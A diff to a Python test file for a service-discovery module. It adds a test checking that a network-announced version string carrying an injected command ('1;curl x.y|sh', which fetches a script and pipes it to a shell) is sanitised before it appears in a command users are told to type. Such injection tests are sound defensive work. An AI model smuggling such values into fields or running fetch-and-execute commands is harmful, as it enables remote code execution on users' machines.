@@ -254,6 +254,10 @@ def test_garbage_is_no_announcement() -> None:
     assert not found.fits("token")
     assert not found.is_same_version
     assert announced(ServiceInfo(discovery.SERVICE, name, port=1)) is None, "nowhere"
+    typed = {"version": "1;curl x.y|sh"}  # it stands in a command that people are told to type
+    found = announced(ServiceInfo(discovery.SERVICE, name, port=1, properties=typed, parsed_addresses=["10.0.0.1"]))
+    assert found is not None
+    assert found.version == "1?curl?x.y?sh"
 
 
 def test_what_fits_and_cannot_be_reached_is_said_at_the_end(monkeypatch: pytest.MonkeyPatch) -> None:
